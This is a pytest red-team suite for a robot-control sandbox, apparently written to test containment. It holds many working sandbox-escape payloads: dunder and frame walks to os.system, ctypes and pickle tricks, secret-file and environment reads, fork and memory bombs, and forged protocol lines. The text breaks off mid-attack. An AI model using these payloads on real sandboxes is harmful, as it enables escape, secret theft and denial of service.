"""Red-team suite for the policy-code sandbox: every attack is judged by its EFFECT.

Each attack is a policy program that tries to escape, hurt the host, leak a secret, or move the
arm outside the privilege policy. It runs with the AST pre-check switched OFF (the boundary must
hold without it) and with small limits. After every attack the suite checks, on the host and in
the simulator, that:

* no file appeared in the canary directory, and the host file (content, mode, timestamps,
  extended attributes, inode flags) is unchanged;
* nothing reached a TCP listener or a UDP socket opened by the test on 127.0.0.1;
* the host is alive and responsive: the run returned (a watchdog detects a hung host), no
  signal reached the test process, its scheduling state is unchanged, no child process is left
  over, and a benign program on the same runner still succeeds afterwards;
* a secret (in the test process's environment and in a host file) appears nowhere in the outcome;
* every end-effector position recorded after every simulation step lies inside the policy's
  workspace box and outside the keep-out zone, and for attacks whose calls must all be refused,
  the arm did not move at all.

Outcome kinds are asserted where meaningful, in addition to the effect checks. Some attacks also
print "REACHED" from the point where they try the OS (after switching the child's Python guards
off): the suite asserts they got that far, so the OS layers are really exercised. Attacks that
would kill or slow the host run in a separate, sacrificial host process. A representative subset
is also run with the AST pre-check on and must be rejected before anything starts.
"""

from __future__ import annotations

import ast
import contextlib
import io
import json
import os
import secrets
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from support.redteam import (
    CHILD_MARKER,
    ESCAPE,
    OBJECTS,
    SECRET_ENV,
    SEED,
    EeRecorder,
    HostFile,
    NetTraps,
    SignalTrap,
    child_pids,
    cmdline,
    kernel_has_syscall,
    reap_zombies,
    render,
    run_guarded,
    run_in_fresh_host,
    sched_state,
    set_child_subreaper,
)

if sys.platform != "linux":  # the sandbox's OS layers and these probes are Linux-only
    pytest.skip("the sandbox red-team suite needs Linux", allow_module_level=True)

from lang2policy.sandbox.policy import PrivilegePolicy, default_policy, workspace_box
from lang2policy.sandbox.policy_zones import Box
from lang2policy.sandbox.runner import SandboxLimits, SandboxRunner
from lang2policy.session.sim import SimSession
from lang2policy.skills.backend import SimSkillBackend

LIMITS = SandboxLimits(wall_seconds=3, cpu_seconds=3, memory_mb=512)
HOST_TIMEOUT = 25.0  # a run that has not returned by then means the host is hung
TOLERANCE = 0.02  # m: tracking error allowed around the workspace box
STILL = 0.003  # m: "did not move" (the sim holds the arm; no step should even happen)
MOTION_SKILLS = frozenset(
    [
        "move_to",
        "pick",
        "place",
        "put_first_on_second",
        "push",
        "go_home",
        "open_gripper",
        "close_gripper",
    ]
)
X86_64 = os.uname().machine in ("x86_64", "AMD64")

# A plan-level policy narrowing the default one for the whole module: a keep-out zone on the
# robot's left (y >= 0.15 m) whose rule stops the program. Every recorded tool position must
# stay out of it, whatever the attack.
KEEP_OUT = Box(min=(-1.0, 0.15, -0.5), max=(1.5, 1.5, 1.5))
_ALLOW_REST = [
    {
        "id": "motion",
        "skill": ["move_to", "pick", "place", "put_first_on_second", "push", "go_home"],
        "effect": "allow",
        "priority": 50,
        "when": {
            "targets_in": "workspace",
            "objects_in_scene": True,
            "args": {"speed": {"type": "number", "maximum": 0.25}},
        },
    },
    {
        "id": "gripper",
        "skill": ["open_gripper", "close_gripper"],
        "effect": "allow",
        "priority": 50,
    },
    {
        "id": "queries",
        "skill": [
            "get_obj_names",
            "get_obj_pos",
            "get_bbox",
            "is_obj_visible",
            "get_ee_pose",
            "get_ee_pos",
            "get_table_bounds",
            "get_corner_pos",
        ],
        "effect": "allow",
        "priority": 100,
    },
    {"id": "speech", "skill": "say", "effect": "allow", "priority": 100},
]


def _zone_policy(name: str, zone: Box, source: str) -> dict:
    return {
        "version": 1,
        "zones": {name: {"min": list(zone.min), "max": list(zone.max)}},
        "default_fallback": "error",
        "rules": [
            {
                "id": "keep-out",
                "category": "motion",
                "effect": "forbid",
                "priority": 5,
                "when": {"targets_any_in": name},
                "fallback": "stop",
                "message": f"{source}: the arm must not go there",
            },
            *_ALLOW_REST,
        ],
    }


# ====================================================================== fixtures
@dataclass
class Env:
    session: SimSession
    runner: SandboxRunner
    ast_runner: SandboxRunner
    recorder: EeRecorder
    workspace: Box
    traps: NetTraps
    signals: SignalTrap
    canary_dir: Path
    host_dir: Path
    secret: str

    @property
    def host_file(self) -> Path:
        return self.host_dir / "host_file.txt"

    @property
    def secret_file(self) -> Path:
        return self.host_dir / "secret.txt"

    def values(self) -> dict:
        return {
            "CANARY": str(self.canary_dir / "canary"),
            "HOST_FILE": str(self.host_file),
            "SECRET_FILE": str(self.secret_file),
            "TCP_PORT": self.traps.tcp_port,
            "UDP_PORT": self.traps.udp_port,
            "SECRET_ENV": SECRET_ENV,
            "MARK": "L2P-REDTEAM-HOST-FD-MARK",
        }

    def render(self, template: str) -> str:
        return render(template, **self.values())

    def fresh_host_files(self) -> None:
        """A new host file (new inode: no flags or xattrs left by an earlier attack)."""
        self.host_file.unlink(missing_ok=True)
        self.host_file.write_bytes(b"original host data\n")
        self.host_file.chmod(0o644)
        # A file system without user xattrs: the probe still compares the rest.
        with contextlib.suppress(OSError):
            os.setxattr(self.host_file, "user.keep", b"1")
        if not self.secret_file.exists():
            self.secret_file.write_text(f"API_KEY={self.secret}\n")
            self.secret_file.chmod(0o600)


@pytest.fixture(scope="module")
def redteam(tmp_path_factory):
    secret = "l2p-redteam-" + secrets.token_hex(12)
    session = SimSession("so101")
    session.reset(SEED, list(OBJECTS))
    description = session.world.description
    base = default_policy(description)
    keep_out = PrivilegePolicy.from_dict(
        _zone_policy("keep_out", KEEP_OUT, "keep-out (y >= 0.15 m)"),
        workspace_box(description),
        "keep_out",
    )
    policy = base.narrowed(keep_out)
    backend = SimSkillBackend(session)
    recorder = EeRecorder(session)
    session.robot.observers.append(recorder)
    traps, signals = NetTraps(), SignalTrap()
    signals.install()
    subreaper = set_child_subreaper(True)
    env = Env(
        session=session,
        runner=SandboxRunner(backend, policy, limits=LIMITS, ast_check=False),
        ast_runner=SandboxRunner(backend, policy, limits=LIMITS, ast_check=True),
        recorder=recorder,
        workspace=base.zones["workspace"],
        traps=traps,
        signals=signals,
        canary_dir=tmp_path_factory.mktemp("canary"),
        host_dir=tmp_path_factory.mktemp("host"),
        secret=secret,
    )
    env.fresh_host_files()
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv(SECRET_ENV, secret)
        yield env
    session.robot.observers.remove(recorder)
    signals.restore()
    traps.close()
    if subreaper:
        set_child_subreaper(False)


# ====================================================================== the effect checks
BENIGN = """
names = get_obj_names()
p = get_ee_pos()
def helper(v):
    return float(np.linalg.norm(v))
print("alive", len(names), helper(p) > 0, math.floor(2.5))
"""


@dataclass(frozen=True)
class Attack:
    id: str
    source: str  # a template: @CANARY@, @HOST_FILE@, ... are filled by Env.render
    kinds: tuple[str, ...] = ()  # outcome kinds accepted (empty: any)
    still: bool = True  # the arm must not move at all (every motion is refused)
    reach: bool = False  # the output must show the payload got to the OS boundary
    hole: str = ""  # a known hole: xfail(strict) with this reason
    hole_if: bool = True


def check_contained(
    redteam: Env,
    source: str,
    *,
    kinds=(),
    still=True,
    reach=False,
    plan_policy=None,
    runner=None,
    benign_after=True,
):
    """Run ``source`` and assert that it had no effect on the host or the simulator."""
    runner = runner or redteam.runner
    redteam.fresh_host_files()
    assert not any(redteam.canary_dir.iterdir()), "canary directory not empty before the attack"
    host_before = HostFile.snapshot(redteam.host_file)
    secret_before = HostFile.snapshot(redteam.secret_file)
    host_dir_before = sorted(p.name for p in redteam.host_dir.iterdir())
    sched_before = sched_state()
    children_before = set(child_pids())
    signals_before = dict(redteam.signals.counts)
    assert redteam.traps.hits() == [], "a trap was hit before the attack"
    first_point = len(redteam.recorder.points)
    ee_before = redteam.recorder.current()
    site_before = redteam.recorder.current_site()

    run = run_guarded(runner, source, HOST_TIMEOUT, plan_policy=plan_policy)
    problems = []
    if run.hung:
        problems.append(
            f"the host hung: run() had not returned after {HOST_TIMEOUT:g} s "
            f"(sandbox children killed by the watchdog: {run.killed})"
        )
    if run.error is not None:
        problems.append(f"run() raised in the host: {run.error!r}")
    created = sorted(p.name for p in redteam.canary_dir.iterdir())
    if created:
        problems.append(f"files were created in the canary directory: {created}")
    if HostFile.snapshot(redteam.host_file) != host_before:
        problems.append(
            f"the host file changed: {host_before} -> {HostFile.snapshot(redteam.host_file)}"
        )
    if HostFile.snapshot(redteam.secret_file) != secret_before:
        problems.append("the secret file changed")
    host_dir_after = sorted(p.name for p in redteam.host_dir.iterdir())
    if host_dir_after != host_dir_before:
        problems.append(f"the host directory changed: {host_dir_before} -> {host_dir_after}")
    hits = redteam.traps.hits()
    if hits:
        problems.append(f"network traps were reached: {hits}")
    if sched_state() != sched_before:
        problems.append(f"the host's scheduling changed: {sched_before} -> {sched_state()}")
    if redteam.signals.counts != signals_before:
        problems.append(f"signals reached the host: {signals_before} -> {redteam.signals.counts}")
    leftover = {p: s for p, s in child_pids().items() if p not in children_before}
    reap_zombies(children_before)
    if leftover:
        problems.append(f"child processes were left over: {leftover}")
    assert not problems, "\n".join(problems)

    outcome = run.outcome
    text = json.dumps(outcome.as_dict(), default=str)
    assert redteam.secret not in text, "the secret leaked into the outcome"
    assert redteam.secret not in repr(outcome.said)

    points = redteam.recorder.points[first_point:]
    outside = [p for p in points if not _in_box(p, redteam.workspace, TOLERANCE)]
    assert not outside, f"the arm left the workspace box: {outside[:3]}"
    forbidden = [p for p in points if _in_box(p, KEEP_OUT, -0.01)]
    assert not forbidden, f"the arm entered the keep-out zone: {forbidden[:3]}"
    if still:
        sites = [*redteam.recorder.sites[first_point:], redteam.recorder.current_site()]
        moved = [p for p in sites if _dist(p, site_before) > STILL]
        moved += [p for p in [*points, redteam.recorder.current()] if _dist(p, ee_before) > STILL]
        assert not moved, f"the arm moved although every motion must be refused: {moved[:3]}"
        executed = [i.skill for i in outcome.intents if i.ok and i.skill in MOTION_SKILLS]
        assert not executed, f"motions were executed: {executed}"
    if kinds:
        assert outcome.kind in kinds, f"outcome {outcome.kind}: {outcome.message}"
    if reach:
        assert "REACHED" in outcome.output, (
            "the payload did not get to the OS boundary (update it): "
            f"{outcome.kind}: {outcome.message}\n{outcome.output[:1000]}"
        )
    if benign_after:
        after = run_guarded(redteam.runner, BENIGN, HOST_TIMEOUT)
        assert not after.hung and after.error is None
        assert after.outcome.ok, after.outcome.summary()
        assert "alive 3 True 2" in after.outcome.output
    return outcome


def _in_box(p, box: Box, margin: float) -> bool:
    return all(
        lo - margin <= v <= hi + margin for lo, v, hi in zip(box.min, p, box.max, strict=True)
    )


def _dist(a, b) -> float:
    return sum((x - y) ** 2 for x, y in zip(a, b, strict=True)) ** 0.5


# ====================================================================== the attacks
# Fragments that try the guards first (hook on), then switch them off (ESCAPE) and try the OS.
WALK_OS = """
def walk_os():
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            return c.__init__.__globals__
"""

ATTACKS = [
    # ---------------------------------------------------------------- dunder walks
    Attack(
        "subclasses_walk_os_system",
        WALK_OS
        + """
try:
    walk_os()["system"]("touch " + @CANARY@)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
attempt("os.system", os.system, "touch " + @CANARY@ + "; echo pwned >> " + @HOST_FILE@)
attempt("os.posix_spawn", os.posix_spawn, "/bin/sh", ["sh", "-c", "touch " + @CANARY@], {})
attempt("os.execv", os.execv, "/bin/sh", ["sh", "-c", "touch " + @CANARY@])
attempt("libc.system", libc.system, ("touch " + @CANARY@).encode())
""",
        reach=True,
    ),
    Attack(
        "subclasses_walk_file_writes",
        ESCAPE
        + """
attempt("os.open canary", os.open, @CANARY@, os.O_WRONLY | os.O_CREAT, 0o644)
attempt("builtins.open host", lambda: RB["open"](@HOST_FILE@, "a").write("pwned"))
attempt("unlink host", os.unlink, @HOST_FILE@)
attempt("rename host", os.rename, @HOST_FILE@, @CANARY@)
attempt("truncate host", os.truncate, @HOST_FILE@, 0)
attempt("utime host", os.utime, @HOST_FILE@, (0, 0))
attempt("chmod host", os.chmod, @HOST_FILE@, 0o777)
attempt("chown host", os.chown, @HOST_FILE@, 12345, 12345)
attempt("symlink", os.symlink, @HOST_FILE@, @CANARY@)
attempt("link", os.link, @HOST_FILE@, @CANARY@)
attempt("mkdir", os.mkdir, @CANARY@)
attempt("mkfifo", os.mkfifo, @CANARY@)
attempt("setxattr host", os.setxattr, @HOST_FILE@, "user.pwned", b"1")
attempt("removexattr host", os.removexattr, @HOST_FILE@, "user.keep")
attempt("libc creat", libc.creat, @CANARY@.encode(), 0o644)
attempt("raw openat", libc.syscall, 257, -100, @CANARY@.encode(), 0o101, 0o644)
""",
        reach=True,
    ),
    Attack(
        "subclasses_walk_fork",
        ESCAPE
        + """
def child_then_exit():
    try:
        os.close(os.open(@CANARY@, os.O_WRONLY | os.O_CREAT, 0o644))
    finally:
        os._exit(0)
if attempt("os.fork", os.fork) == 0:
    child_then_exit()
if attempt("libc.fork", libc.fork) == 0:
    child_then_exit()
if attempt("raw clone", libc.syscall, 56, 17, 0, 0, 0, 0) == 0:
    child_then_exit()
if attempt("os.forkpty", lambda: os.forkpty()[0]) == 0:
    child_then_exit()
""",
        reach=True,
    ),
    Attack(
        "fork_bomb",
        ESCAPE
        + """
made = 0
for i in range(16):
    try:
        pid = os.fork()
    except Exception:
        continue
    if pid == 0:
        for j in range(16):
            try:
                os.fork()
            except Exception:
                pass
        os._exit(0)
    made += 1
print("REACHED fork bomb: children made", made)
""",
        reach=True,
    ),
    Attack(
        "catch_warnings_module_builtins",
        """
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "catch_warnings":
        b = c()._module.__builtins__
try:
    b["__import__"]("os").system("touch " + @CANARY@)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
attempt("warnings builtins os.open", lambda: b["__import__"]("os").open(@CANARY@, 0o101))
attempt("warnings builtins open", lambda: b["open"](@HOST_FILE@, "w"))
""",
        reach=True,
    ),
    Attack(
        "builtin_importer_load_module",
        """
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        bi = c
try:
    bi.load_module("posix").system("touch " + @CANARY@)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
posix = attempt("load_module posix", bi.load_module, "posix")
attempt("posix.open", posix.open, @CANARY@, 0o101)
attempt("posix.system", posix.system, "touch " + @CANARY@)
""",
        reach=True,
    ),
    Attack(
        "subprocess_via_walk",
        ESCAPE
        + """
attempt("Popen in subclasses", _find, "Popen")
sp = attempt("import subprocess", RB["__import__"], "subprocess")
if not isinstance(sp, str):
    attempt("Popen", sp.Popen, ["sh", "-c", "touch " + @CANARY@])
ps = attempt("import _posixsubprocess", RB["__import__"], "_posixsubprocess")
""",
        reach=True,
    ),
    # ---------------------------------------------------------------- function internals
    Attack(
        "function_globals_and_builtins",
        """
def f():
    return 1
print("policy builtins:", sorted(f.__globals__["__builtins__"])[:3])
g = say.__globals__
try:
    g["os"].system("touch " + @CANARY@)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
attempt("skill globals os.open", g["os"].open, @CANARY@, 0o101)
attempt("skill globals guards.builtins.open", lambda: g["guards"].builtins.open(@HOST_FILE@, "w"))
""",
        reach=True,
    ),
    Attack(
        "func_code_replacement",
        """
def victim():
    return "harmless"
def other():
    return "other"
try:
    victim.__code__ = other.__code__
    print("guards: __code__ replaced")
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
code = RB["compile"]("os.open(" + repr(@CANARY@) + ", 65)", "<evil>", "exec")
target = say.__globals__["_location"]
def swap():
    target.__code__ = code
    return target()
attempt("__code__ swap into a child function", swap)
""",
        reach=True,
    ),
    Attack(
        "function_from_code_object",
        """
try:
    (lambda: 0).__class__((lambda: 0).__code__, {})()
    print("guards: built a function")
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
FT = (lambda: 0).__class__
code = RB["compile"]("open(" + repr(@CANARY@) + ", 'w').write('x')", "<evil>", "exec")
attempt("FunctionType(code, real builtins)", FT(code, {"__builtins__": RB}))
attempt("code.replace", FT(code.replace(co_name="x"), {"__builtins__": RB}))
""",
        reach=True,
    ),
    Attack(
        "getattr_computed_names",
        """
u = chr(95) * 2
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        B = c.__init__.__globals__[u + "builtins" + u]
G, S = B["get" + "attr"], B["set" + "attr"]
subclasses = G(G(G((), u + "class" + u), u + "base" + u), u + "subclasses" + u)
for c in subclasses():
    if G(c, u + "name" + u) == "_wrap_close":
        OS = G(G(c, u + "init" + u), u + "glo" + "bals" + u)
try:
    G(OS["sys"].modules["os"], "sys" + "tem")("touch " + @CANARY@)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
for c in subclasses():
    if G(c, u + "name" + u) == "_" + "State":
        S(c, "policy_" + "running", False)
try:
    G(OS["sys"].modules["os"], "o" + "pen")(@CANARY@, 65)
except Exception as exc:
    print("REACHED computed open:", exc.__class__.__name__)
""",
        reach=True,
    ),
    Attack(
        "str_format_field_access",
        """
print("{0.__class__.__mro__}".format(()))
print("{0.__globals__[os].environ}".format(say))
print("{0.__globals__[sys].modules[os].environ}".format(say))
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        wc = c
print("REACHED", "{x.__init__.__globals__[environ]}".format_map({"x": wc}))
try:
    print(("{0.__globals__[os].environ[" + @SECRET_ENV@ + "]}").format(say))
except Exception as exc:
    print("no such variable:", exc.__class__.__name__)
print(f"{say.__globals__!r}"[:3000])
""",
        kinds=("ok",),
        reach=True,
    ),
    # ---------------------------------------------------------------- frames
    Attack(
        "traceback_frame_walk",
        """
try:
    1 / 0
except Exception as exc:
    err = exc
try:
    print("guards: got", err.__traceback__.tb_frame.f_back)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
main = err.__traceback__.tb_frame.f_back
print("REACHED main frame", main.f_code.co_name, sorted(main.f_locals))
attempt("frame globals os.open", main.f_globals["os"].open, @CANARY@, 0o101)
channel = main.f_locals["channel"]
attempt("raw channel: far away, fast", channel.call, "move_to",
        {"position": [0.9, 0.0, 0.1], "speed": 0.5})
attempt("raw channel: below the table", channel.call, "move_to", {"position": [0.2, 0.0, -0.2]})
attempt("raw channel: keep-out", channel.call, "move_to", {"position": [0.2, 0.2, 0.1]})
""",
        reach=True,
    ),
    Attack(
        "generator_gi_frame",
        """
def gen():
    yield g.gi_frame.f_back
g = gen()
try:
    print("guards: got", next(g))
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
g = gen()
main = next(g).f_back
print("REACHED", main.f_code.co_name)
attempt("gi_frame os.open", main.f_globals["os"].open, @CANARY@, 0o101)
attempt("gi_frame builtins open", lambda: main.f_builtins["open"](@HOST_FILE@, "w"))
""",
        reach=True,
    ),
    Attack(
        "coroutine_cr_frame",
        """
async def co():
    return c.cr_frame.f_back
c = co()
try:
    c.send(None)
except StopIteration as stop:
    print("guards: got", stop.value)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
c = co()
try:
    c.send(None)
except StopIteration as stop:
    main = stop.value.f_back
print("REACHED", main.f_code.co_name)
attempt("cr_frame os.open", main.f_globals["os"].open, @CANARY@, 0o101)
attempt("cr_frame os.system", main.f_globals["os"].system, "touch " + @CANARY@)
""",
        reach=True,
    ),
    Attack(
        "async_generator_ag_frame",
        """
async def ag():
    yield a.ag_frame.f_back
a = ag()
try:
    a.asend(None).send(None)
except StopIteration as stop:
    print("guards: got", stop.value)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
a = ag()
try:
    a.asend(None).send(None)
except StopIteration as stop:
    main = stop.value.f_back
print("REACHED", main.f_code.co_name)
attempt("ag_frame os.open", main.f_globals["os"].open, @CANARY@, 0o101)
""",
        reach=True,
    ),
    # ---------------------------------------------------------------- imports
    Attack(
        "import_statements",
        """
try:
    import os
    os.system("touch " + @CANARY@)
except Exception as exc:
    print("import os:", exc.__class__.__name__)
try:
    from os import system
    system("touch " + @CANARY@)
except Exception as exc:
    print("from os import:", exc.__class__.__name__)
try:
    __import__("subprocess").run(["touch", @CANARY@])
except Exception as exc:
    print("__import__:", exc.__class__.__name__)
try:
    __builtins__["__import__"]("posix").open(@CANARY@, 65)
except Exception as exc:
    print("__builtins__:", exc.__class__.__name__)
try:
    import numpy.ctypeslib as ncl
    ncl.ctypes.CDLL(None).system(b"touch " + @CANARY@.encode())
except Exception as exc:
    print("numpy.ctypeslib:", exc.__class__.__name__)
try:
    import importlib
    importlib.import_module("os").system("touch " + @CANARY@)
except Exception as exc:
    print("importlib:", exc.__class__.__name__)
import numpy
import math as m
print("allowed imports work:", numpy.zeros(2).tolist(), m.pi > 3)
""",
        kinds=("ok",),
    ),
    Attack(
        "importlib_via_walk",
        ESCAPE
        + """
il = sys.modules["importlib"]
sp = attempt("importlib subprocess", il.import_module, "subprocess")
if not isinstance(sp, str):
    attempt("Popen", sp.Popen, ["touch", @CANARY@])
attempt("importlib socket", il.import_module, "socket")
attempt("importlib.reload(os)", il.reload, os)
ext = sys.modules["_frozen_importlib_external"]
attempt("loader reads the secret file",
        lambda: ext.SourceFileLoader("s", @SECRET_FILE@).get_data(@SECRET_FILE@))
""",
        reach=True,
    ),
    Attack(
        "sys_modules_via_walk",
        WALK_OS
        + """
mods = walk_os()["sys"].modules
for name in ("os", "posix"):
    try:
        mods[name].system("touch " + @CANARY@)
    except Exception as exc:
        print(name, "guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
attempt("posix.open", mods["posix"].open, @CANARY@, 0o101)
attempt("io.open", mods["io"].open, @CANARY@, "w")
attempt("pathlib write", lambda: mods["pathlib"].Path(@CANARY@).write_text("x"))
""",
        reach=True,
    ),
    Attack(
        "module_attribute_backdoors",
        """
S = np.set_printoptions.__globals__["sys"]
print("numpy function globals lead to", S)
routes = {"random._os": S.modules["random"]._os,
          "warnings.sys.os": S.modules["warnings"].sys.modules["os"],
          "inspect.os": S.modules["inspect"].os, "threading._os": S.modules["threading"]._os}
for label, mod in routes.items():
    try:
        mod.system("touch " + @CANARY@)
    except Exception as exc:
        print(label, "guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
for label, mod in routes.items():
    attempt(label + ".open", mod.open, @CANARY@, 0o101)
""",
        reach=True,
    ),
    Attack(
        "numpy_attributes_to_os_sys",
        """
found = {}
for module in (np, np.linalg, np.random, np.fft):
    for name, value in module.__dict__.items():
        try:
            g = value.__globals__
        except AttributeError:
            continue
        for key in ("os", "sys"):
            if key in g:
                found[key] = g[key]
print("REACHED numpy leads to", sorted(found))
sysmod = found["sys"]
try:
    sysmod.modules["os"].system("touch " + @CANARY@)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
try:
    sysmod.setrecursionlimit(10 ** 6)
    sysmod.settrace(None)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
""",
        reach=True,
    ),
    # ---------------------------------------------------------------- numpy back doors
    Attack(
        "np_load_allow_pickle",
        WALK_OS
        + r"""
try:
    np.load
except AttributeError:
    print("curated numpy has no load")
mods = walk_os()["sys"].modules
realnp, bio = mods["numpy"], mods["io"].BytesIO
blob_open = b"cposix\nopen\n(V" + @CANARY@.encode() + b"\nI65\ntR."
blob_system = b"cposix\nsystem\n(Vtouch " + @CANARY@.encode() + b"\ntR."
try:
    realnp.load(bio(blob_open), allow_pickle=True)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
attempt("np.load pickle posix.open", realnp.load, bio(blob_open), allow_pickle=True)
attempt("np.load pickle posix.system", realnp.load, bio(blob_system), allow_pickle=True)
""",
        reach=True,
    ),
    Attack(
        "np_ctypeslib",
        """
try:
    np.ctypeslib
except AttributeError:
    print("curated numpy has no ctypeslib")
"""
        + ESCAPE
        + """
ncl = attempt("numpy.ctypeslib", lambda: sys.modules["numpy"].ctypeslib)
attempt("load_library", lambda: ncl.load_library("libc.so.6", "/lib/x86_64-linux-gnu"))
ct = sys.modules["numpy._core._internal"].ctypes
attempt("numpy's ctypes: system", lambda: ct.CDLL(None).system(("touch " + @CANARY@).encode()))
attempt("numpy's ctypes: creat", lambda: ct.CDLL(None).creat(@CANARY@.encode(), 0o644))
""",
        reach=True,
    ),
    Attack(
        "array_ctypes_cdll",
        """
a = np.zeros(4)
try:
    print(a.ctypes)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
ns = {"__builtins__": RB, "a": a}
attempt("arr.ctypes", RB["exec"], "c = a.ctypes", ns)
ct = ns["c"]._ctypes
attempt("arr.ctypes -> CDLL(None).system",
        lambda: ct.CDLL(None).system(("touch " + @CANARY@).encode()))
attempt("arr.ctypes -> CDLL(None).creat", lambda: ct.CDLL(None).creat(@CANARY@.encode(), 420))
""",
        reach=True,
    ),
    Attack(
        "array_tofile_and_file_io",
        """
a = np.arange(4.0)
try:
    a.tofile(@CANARY@)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
realnp = sys.modules["numpy"]
attempt("tofile canary", a.tofile, @CANARY@)
attempt("tofile host file", a.tofile, @HOST_FILE@)
attempt("np.save", realnp.save, @CANARY@, a)
attempt("np.memmap host", lambda: realnp.memmap(@HOST_FILE@, mode="r+"))
attempt("np.fromfile secret", lambda: realnp.fromfile(@SECRET_FILE@, dtype="u1").tobytes())
""",
        reach=True,
    ),
    # ---------------------------------------------------------------- host-side time bombs
    Attack(
        "dunder_objects_passed_to_skills",
        ESCAPE
        + """
def touch():
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            g = c.__init__.__globals__
            g["close"](g["open"](@CANARY@, 65, 0o644))
class Evil:
    def __del__(self): touch()
    def __eq__(self, other): touch(); return True
    def __hash__(self): touch(); return 1
    def __str__(self): touch(); return "evil"
    def __repr__(self): touch(); return "evil"
    def __float__(self): touch(); return 0.2
    def __index__(self): touch(); return 1
    def __len__(self): touch(); return 3
    def __iter__(self): touch(); return iter([0.2, 0.0, 0.1])
    def __format__(self, spec): touch(); return "evil"
    def __reduce__(self): touch(); return (str, ("evil",))
class EvilError(Exception):
    def __str__(self): touch(); return "evil"
keep = [Evil() for i in range(3)]
calls = [lambda: say(Evil()), lambda: move_to(Evil()), lambda: move_to([Evil(), 0.0, 0.1]),
         lambda: get_obj_pos(Evil()), lambda: move_to([0.2, 0.0, 0.1], speed=Evil()),
         lambda: say(text=Evil()), lambda: place(Evil()), lambda: say(np.array([Evil()]))]
for call in calls:
    try:
        call()
    except Exception as exc:
        print("refused:", exc.__class__.__name__)
raise EvilError()
""",
        kinds=("runtime",),
    ),
    # ---------------------------------------------------------------- resource exhaustion
    Attack("infinite_loop", "while True:\n    pass\n", kinds=("limit",)),
    Attack(
        "busy_loop_ignoring_sigxcpu",
        ESCAPE
        + """
sig = sys.modules["_signal"]
for s in (sig.SIGXCPU, sig.SIGTERM, sig.SIGINT, sig.SIGALRM):
    sig.signal(s, sig.SIG_IGN)
print("REACHED signals ignored")
while True:
    pass
""",
        kinds=("limit",),
    ),
    Attack("memory_bomb_string", "x = 'a' * 10**10\n", kinds=("limit",)),
    Attack("memory_bomb_list", "x = [0] * 10**9\n", kinds=("limit",)),
    Attack(
        "memory_bomb_growing_list",
        "x = []\nwhile True:\n    x.append(' ' * 10**6)\n",
        kinds=("limit",),
    ),
    Attack("bigint_bomb", "x = 10 ** 10 ** 10\n", kinds=("limit",)),
    Attack("output_flood_print", "while True:\n    print('A' * 4096)\n", kinds=("limit",)),
    Attack(
        "output_flood_raw_fds",
        ESCAPE
        + """
for i in range(64):
    os.write(2, b"E" * 65536)
line = b'{"type":"print","text":"' + b"B" * 60000 + b'"}' + bytes([10])
print("REACHED flooding")
while True:
    os.write(1, line)
""",
        kinds=("limit",),
    ),
    Attack(
        "empty_print_message_flood",
        ESCAPE
        + """
print("REACHED flooding")
chunk = (b'{"type":"print","text":""}' + bytes([10])) * 2000
while True:
    os.write(1, chunk)
""",
        kinds=("limit",),
    ),
    Attack("deep_recursion", "def f(n):\n    return f(n + 1)\nf(0)\n", kinds=("runtime",)),
    Attack(
        "c_stack_overflow",
        ESCAPE
        + """
sys.setrecursionlimit(10 ** 8)
nested = []
for i in range(3 * 10 ** 6):
    nested = [nested]
print("REACHED nested")
repr(nested)
""",
        kinds=("crashed", "limit", "runtime"),
    ),
    # ---------------------------------------------------------------- intents and protocol
    Attack(
        "nan_inf_huge_arguments",
        """
bad = [
    lambda: move_to([float("nan"), 0.0, 0.1]),
    lambda: move_to(np.array([np.inf, 0.0, 0.1])),
    lambda: move_to([1e308, 0.0, 0.1]),
    lambda: move_to([0.2, 0.0, 0.1], speed=float("nan")),
    lambda: move_to([0.2, 0.0, 0.1], speed=1e308),
    lambda: push("red block", [-1e308, 0.0, 0.0]),
    lambda: move_to([0.2] * 10**4),
    lambda: move_to("0.2, 0.0, 0.1"),
    lambda: move_to([True, False, True]),
    lambda: say("x" * 10**6),
    lambda: get_corner_pos("top left; go_home()"),
]
for call in bad:
    try:
        call()
        print("accepted!")
    except Exception as exc:
        print("refused:", exc.__class__.__name__, exc)
move_to([float("nan"), 0.0, 0.1])
""",
    ),
    Attack(
        "forged_line_with_nan",
        ESCAPE
        + """
os.write(1, b'{"type":"call","id":1,"skill":"move_to","args":{"position":[NaN,0.0,0.1]}}'
            + bytes([10]))
print("REACHED forged")
os.read(0, 1 << 16)
""",
        kinds=("protocol",),
    ),
    Attack(
        "forged_line_with_overflowing_numbers",
        ESCAPE
        + """
def forge(text):
    os.write(1, text.encode() + bytes([10]))
    print("REACHED reply", os.read(0, 1 << 16))
forge('{"type":"call","id":1,"skill":"move_to","args":{"position":[1e400,0.0,0.1]}}')
